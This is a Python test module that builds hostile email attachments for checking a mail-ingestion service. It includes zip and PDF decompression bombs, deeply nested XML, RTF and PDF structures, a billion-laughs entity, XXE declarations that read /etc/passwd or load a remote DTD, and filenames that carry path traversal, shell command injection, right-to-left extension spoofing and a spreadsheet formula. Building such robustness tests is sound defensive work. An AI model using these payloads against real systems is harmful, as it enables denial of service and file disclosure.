"""Files made to break what reads them, attached to a reply: bombs, entities, false names, seals; and their many-in-one-mail forms."""
# ruff: noqa: E501 - tables, of which a row is a line

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from base64 import b64encode
from collections.abc import Callable

from tests.incoming.attacks import ANSWERED, LARGEST, MEGABYTE, TEXT, Attack, begun, filled, with_file

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_WORD = f'<?xml version="1.0"?><w:document xmlns:w="{_W}"><w:body>'.encode()
_WORD_END = b"</w:body></w:document>"
_OPEN = (
    b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0">'
    b"<office:body><office:text>"
)
_OPEN_END = b"</office:text></office:body></office:document-content>"
_SHEET = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_SHEET_END = b"</sheetData></worksheet>"
_STRINGS = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def zipped(**parts: bytes) -> bytes:
    """A zip file; `__` in a name is a slash, a last `_xml` an ending."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_xml", ".xml"), content)
    return into.getvalue()


def _word(unit: bytes, *, before: bytes = b"", behind: bytes = b"") -> Callable[[int], bytes]:
    """A Word document whose text part has as many bytes."""

    def make(size: int) -> bytes:
        return with_file(zipped(word__document_xml=_WORD + before + filled(unit, size) + behind + _WORD_END), "a.docx")

    return make


def _open(unit: bytes, *, before: bytes = b"", behind: bytes = b"") -> Callable[[int], bytes]:
    return lambda size: with_file(zipped(content_xml=_OPEN + before + filled(unit, size) + behind + _OPEN_END), "a.odt")


def _sheet(unit: bytes, *, strings: bytes = b"") -> Callable[[int], bytes]:
    def make(size: int) -> bytes:
        shared = _STRINGS + strings + b"</sst>"
        sheet = _SHEET + filled(unit, size) + _SHEET_END
        return with_file(zipped(xl__workbook_xml=b"<a/>", xl__sharedStrings_xml=shared, xl__worksheets__sheet1_xml=sheet), "a.xlsx")

    return make


def _sheets(size: int) -> bytes:
    """Ten sheets, each as large as a part may be."""
    sheet = _SHEET + filled(b"<row/>", size) + _SHEET_END
    return with_file(zipped(xl__workbook_xml=b"<a/>", **{f"xl__worksheets__sheet{n}_xml": sheet for n in range(1, 11)}), "a.xlsx")


def _strings(size: int) -> bytes:
    shared = _STRINGS + b"<si>" + filled(b"<t>da</t>", size) + b"</si></sst>"
    sheet = _SHEET + b'<row><c r="A1" t="s"><v>0</v></c></row>' * 1_000 + _SHEET_END
    return with_file(zipped(xl__workbook_xml=b"<a/>", xl__sharedStrings_xml=shared, xl__worksheets__sheet1_xml=sheet), "a.xlsx")


def _lists(size: int) -> bytes:
    number = '<w:p><w:pPr><w:numPr><w:ilvl w:val="1"/><w:numId w:val="%d"/></w:numPr></w:pPr></w:p>'
    return _word("".join(number % n for n in range(size)).encode())(1)


def _levels(size: int) -> bytes:
    number = '<w:p><w:pPr><w:numPr><w:ilvl w:val="%d"/><w:numId w:val="1"/></w:numPr></w:pPr></w:p>'
    return _word("".join(number % n for n in range(size)).encode())(1)


def _entries(size: int) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as archive:
        for number in range(size):
            archive.writestr(f"{number}", b"")
        archive.writestr("word/document.xml", _WORD + _WORD_END)
    return with_file(into.getvalue(), "a.docx")


def _listed(size: int) -> bytes:
    """A zip file's table of contents that names one part again and again (APPNOTE 4.3.12, 4.3.14)."""
    entry = b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    table = entry * size
    end64 = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, size, size, len(table), 4)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, 4 + len(table), 1)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return with_file(b"PK\x03\x04" + table + end64 + locator + end, "a.docx")


def _type_declared(declaration: str, text: str) -> Callable[[int], bytes]:
    body = f'<?xml version="1.0"?><!DOCTYPE a [{declaration}]><w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
    return lambda _size: with_file(zipped(word__document_xml=body.encode() + _WORD_END), "a.docx")


_LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12))


def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF of these objects, numbered from 1, with its table of places."""
    out = bytearray(b"%PDF-1.5\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start))


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(content, 9)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream" % (len(packed), extra, packed)


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _pages(content: bytes, count: int = 1) -> bytes:
    kids = b" ".join(b"%d 0 R" % (5 + n) for n in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F1 3 0 R >> >> >>"
    catalogue, tree = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids)
    return pdf(catalogue, tree, _FONT, content, *[page] * count)


def _pdf_text(unit: bytes, count: int = 1) -> Callable[[int], bytes]:
    def make(size: int) -> bytes:
        return with_file(_pages(_stream(b"BT /F1 12 Tf " + filled(unit, size) + b" ET"), count), "a.pdf", "application/pdf")

    return make


def _pdf_circle(_size: int) -> bytes:
    tree = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>")
    return with_file(tree, "a.pdf", "application/pdf")


def _pdf_packed_twice(size: int) -> bytes:
    inner = zlib.compress(zlib.compress(filled(b"BT (da) Tj ET ", size), 9), 9)
    content = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (len(inner), inner)
    return with_file(_pages(content), "a.pdf", "application/pdf")


def _rtf(unit: bytes, *, before: bytes = b"") -> Callable[[int], bytes]:
    return lambda size: with_file(b"{\\rtf1\\ansi " + before + filled(unit, size) + b"}", "a.rtf")


def _named(name: str) -> Callable[[int], bytes]:
    """A file with an answer in it, under a name that is none."""
    return lambda _size: with_file(b"2. Prin presa.\n", "", disposition=f'attachment; filename="{name}"')


def _file(unit: bytes, name: str, kind: str = "application/octet-stream", *, before: bytes = b"") -> Callable[[int], bytes]:
    return lambda size: with_file(before + filled(unit, size * 3 // 4), name, kind)


def _many(data: bytes, name: str, count: int) -> Callable[[int], bytes]:
    """The same file many times in one mail."""

    def make(size: int) -> bytes:
        kind = f'--b\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: base64\nContent-Disposition: attachment; filename="{name}"\n\n'
        start = begun("Content-Type: multipart/mixed; boundary=b\n") + b"\n--b\n" + TEXT + ANSWERED
        return start + (kind.encode() + b64encode(data) + b"\n") * max(1, size * count) + b"--b--\n"

    return make


def _sealed(size: int) -> bytes:
    """An opaque signature (RFC 8551 §3.5.2): what was signed is inside."""
    return with_file(b"\x30\x80\x06\x09" + filled(b"\x24\x80\x04\x82", size), "smime.p7m", "application/pkcs7-mime; smime-type=signed-data")


def _packed_by_outlook(size: int) -> bytes:
    return with_file(
        struct.pack("<IH", 0x223E9F78, 1) + filled(b"\x01\x06\x90\x08\x00\xff\xff\xff\x7f", size), "winmail.dat", "application/ms-tnef"
    )


def _letter(body: bytes) -> bytes:
    return begun("Content-Type: text/html\n") + b"\n" + body


def _picture(size: int) -> bytes:
    return with_file(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 2**31, 2**31) + filled(b"a", size), "a.png", "image/png")


_P = b"<w:p><w:r><w:t>da</w:t></w:r></w:p>"
_ZIP_PART = 19 * MEGABYTE
_BOMB = zipped(word__document_xml=_WORD + filled(b"<w:p/>", _ZIP_PART) + _WORD_END)
SLOW_PDF = _pages(_stream(b"BT /F1 12 Tf " + filled(b"(da) Tj ", 8 * MEGABYTE) + b" ET"), 60)
_NAMES = (
    "../../etc/passwd", "/etc/passwd", "..\\\\..\\\\windows\\\\system32\\\\a.txt", "C:\\\\autoexec.bat", "CON", "NUL.txt", "a\0b.txt", "n" * 10_000 + ".txt",
    "raspuns\u202etxt.exe", "", ".", "..", "-rf", "$(touch owned).txt", "`id`.txt", "a;b|c&d.txt", "llab.db", "config.toml", "%2e%2e%2fa.txt", "=cmd|a.csv",
)  # fmt: skip

BOMBS: dict[str, Attack] = {
    # Word
    "docx: empty paragraphs to 19 MB": Attack(_word(b"<w:p/>"), _ZIP_PART),
    "docx: paragraphs to 19 MB": Attack(_word(_P), _ZIP_PART),
    "docx: a part of 200 MB": Attack(_word(b" "), 200 * MEGABYTE),
    "docx: one paragraph of runs": Attack(_word(b"<w:r><w:t>da </w:t></w:r>", before=b"<w:p>", behind=b"</w:p>"), _ZIP_PART),
    "docx: runs, each with other looks": Attack(
        _word(b"<w:r><w:rPr><w:b/></w:rPr><w:t>da </w:t></w:r><w:r><w:t>nu </w:t></w:r>", before=b"<w:p>", behind=b"</w:p>"), _ZIP_PART
    ),
    "docx: empty runs": Attack(_word(b"<w:r><w:t/></w:r>", before=b"<w:p>", behind=b"</w:p>"), _ZIP_PART),
    "docx: one text of 19 MB": Attack(_word(b"da ", before=b"<w:p><w:r><w:t>", behind=b"</w:t></w:r></w:p>"), _ZIP_PART),
    "docx: line breaks": Attack(_word(b"<w:r><w:br/></w:r>", before=b"<w:p>", behind=b"</w:p>"), _ZIP_PART),
    "docx: paragraphs in paragraphs": Attack(_word(b"<w:p>"), _ZIP_PART),
    "docx: tables in tables": Attack(_word(b"<w:tbl><w:tr><w:tc>"), _ZIP_PART),
    "docx: attributes": Attack(lambda size: _word(b"<w:p/>", before=b"<w:p %s/>" % b" ".join(b'a%d="1"' % n for n in range(size // 10)))(10), _ZIP_PART),
    "docx: one attribute": Attack(lambda size: _word(b"<w:p/>", before=b'<w:p a="' + filled(b"a", size) + b'"/>')(10), _ZIP_PART),
    "docx: numbered paragraphs": Attack(
        _word(b'<w:p><w:pPr><w:numPr><w:ilvl w:val="1"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>da</w:t></w:r></w:p>'), _ZIP_PART
    ),
    "docx: entries of a zip file": Attack(_entries, 60_000),
    "docx: 400,000 entries of a zip file": Attack(_listed, 400_000),
    "docx: a document type that reads a file": Attack(_type_declared('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;"), 1),
    "docx: a document type from elsewhere": Attack(_type_declared('<!ENTITY % a SYSTEM "http://a.example/a.dtd"> %a;', "da"), 1),
    "docx: a billion laughs": Attack(_type_declared(_LAUGHS, "&a12;"), 1),
    # OpenDocument, workbooks
    "odt: paragraphs to 19 MB": Attack(_open(b"<text:p>da</text:p>"), _ZIP_PART),
    "odt: empty elements": Attack(_open(b"<text:s/>", before=b"<text:p>", behind=b"</text:p>"), _ZIP_PART),
    "odt: spans in spans": Attack(_open(b"<text:span>", before=b"<text:p>"), _ZIP_PART),
    "odt: lists in lists": Attack(_open(b"<text:list><text:list-item>"), _ZIP_PART),
    "odt: repeated cells": Attack(
        _open(b'<table:table-row table:number-rows-repeated="99999"><table:table-cell table:number-columns-repeated="9999"><text:p>da</text:p>'
              b"</table:table-cell></table:table-row>", before=b"<table:table>", behind=b"</table:table>"), _ZIP_PART,
    ),
    "odt: a kind of 500 MB": Attack(
        lambda size: with_file(zipped(mimetype=b"application/vnd.oasis.opendocument.text" + bytes(size), content_xml=_OPEN + _OPEN_END), "a.odt"), 500 * MEGABYTE
    ),
    "docx: paragraphs of 60,000 lists": Attack(_lists, 60_000),
    "docx: levels of a list": Attack(_levels, 60_000),
    "odt: blanks repeated a thousand million times": Attack(_open(b'<text:p><text:s text:c="999999999"/>da</text:p>'), MEGABYTE),
    "xlsx: cells to 19 MB": Attack(_sheet(b"<c><v>1</v></c>"), _ZIP_PART),
    "xlsx: empty cells": Attack(_sheet(b"<c/>"), _ZIP_PART),
    "xlsx: empty rows in ten sheets": Attack(_sheets, _ZIP_PART),
    "xlsx: one text in pieces": Attack(_strings, _ZIP_PART),
    "xlsx: one text pointed at often": Attack(
        _sheet(b'<c t="s"><v>0</v></c>', strings=b"<si><t>" + b"da " * 300_000 + b"</t></si>"), MEGABYTE
    ),
    "xlsx: texts without words pointed at often": Attack(
        _sheet(b'<c t="s"><v>0</v></c>', strings=b"<si><t>" + b"\n" * 300_000 + b"</t></si>"), MEGABYTE
    ),
    # PDF, RTF, plain files
    "pdf: a page of 50 MB": Attack(_pdf_text(b"(da) Tj "), 50 * MEGABYTE),
    "pdf: a page of 500 MB": Attack(_pdf_text(b" "), 500 * MEGABYTE),
    "pdf: 60 pages of 1 MB": Attack(_pdf_text(b"(da) Tj ", 60), MEGABYTE),
    "pdf: 20,000 pages": Attack(_pdf_text(b"(da) Tj ", 20_000), 1_000),
    "pdf: a circle of pages": Attack(_pdf_circle, 1),
    "pdf: packed twice": Attack(_pdf_packed_twice, 200 * MEGABYTE),
    "pdf: opened brackets": Attack(_pdf_text(b"["), 5 * MEGABYTE),
    "pdf: nothing but a beginning": Attack(_file(b"1 0 obj ", "a.pdf", "application/pdf", before=b"%PDF-1.4\n"), 20 * MEGABYTE),
    "rtf: groups in groups": Attack(_rtf(b"{"), 10 * MEGABYTE),
    "rtf: words to 18 MB": Attack(_rtf(b"\\b da "), 18 * MEGABYTE),
    "rtf: control words without text": Attack(_rtf(b"\\b"), 18 * MEGABYTE),
    "rtf: Unicode letters": Attack(_rtf(b"\\u537?"), 18 * MEGABYTE),
    "rtf: bytes": Attack(_rtf(b"\\'e3"), 18 * MEGABYTE),
    "rtf: fonts": Attack(_rtf(b"{\\f1\\fcharset238 a;}", before=b"{\\fonttbl"), 18 * MEGABYTE),
    "rtf: a picture": Attack(_rtf(b"ffd8ffe0", before=b"{\\pict\\jpegblip "), 18 * MEGABYTE),
    "txt of 25 MB": Attack(_file("Prin presă.\n".encode(), "a.txt", "text/plain"), LARGEST),
    "txt of blank lines": Attack(_file(b"\n", "a.txt", "text/plain"), LARGEST),
    "txt in UTF-16": Attack(_file(b"d\0a\0 \0", "a.txt", "text/plain"), LARGEST),
    "csv of quotes": Attack(_file(b'"', "a.csv", "text/csv"), LARGEST),
    "csv of commas": Attack(_file(b",", "a.csv", "text/csv"), LARGEST),
    "csv of cells": Attack(_file(b"da,nu\n", "a.csv", "text/csv"), LARGEST),
    "html of 25 MB": Attack(_file(b"<p>da</p>", "a.html", "text/html"), LARGEST),
    "html of divs": Attack(_file(b"<div>", "a.html", "text/html"), LARGEST),
    "eml of 25 MB": Attack(_file(b"da\n", "a.eml", "application/octet-stream", before=_letter(b"")), LARGEST),
    "eml of HTML": Attack(_file(b"<b>a", "a.eml", "application/octet-stream", before=_letter(b"")), LARGEST),
    "eml of headers": Attack(_file(b"X: a\n", "a.eml"), LARGEST),
    "25 MB of an unknown kind": Attack(_file(b"\x01\x02\x03", "a.bin"), LARGEST),
    "25 MB as docx": Attack(_file(b"PK\x03\x04", "a.docx"), LARGEST),
    "25 MB of ends of zip files": Attack(_file(b"PK\x05\x06", "a.docx", before=b"PK\x03\x04"), LARGEST),
    "a picture of 2 thousand million lines": Attack(_picture, 5 * MEGABYTE),
    "a JPEG of segments": Attack(_file(b"\xff\xe0\0\x02", "a.jpg", "image/jpeg", before=b"\xff\xd8"), LARGEST),
    "winmail.dat": Attack(_packed_by_outlook, 5 * MEGABYTE),
    "an opaque signature": Attack(_sealed, 5 * MEGABYTE),
    "a signature": Attack(_file(b"\x30\x82", "smime.p7s", "application/pkcs7-signature"), 5 * MEGABYTE),
    "visiting cards": Attack(_file(b"BEGIN:VCARD\nEND:VCARD\n", "a.vcf", "text/vcard"), 5 * MEGABYTE),
    # names
    **{f"named {name[:20]!r}": Attack(_named(name), 1) for name in _NAMES},
    # many
    "200 bombs in one mail": Attack(_many(_BOMB, "a.docx", 200), 1),
    "50 slow PDF files in one mail": Attack(_many(SLOW_PDF, "a.pdf", 50), 1),
    "900 small documents in one mail": Attack(_many(zipped(word__document_xml=_WORD + _P * 3_000 + _WORD_END), "a.docx", 900), 1),
    "900 letters in one mail": Attack(_many(_letter(b"<p>da" * 3_000), "a.eml", 900), 1),
}  # fmt: skip
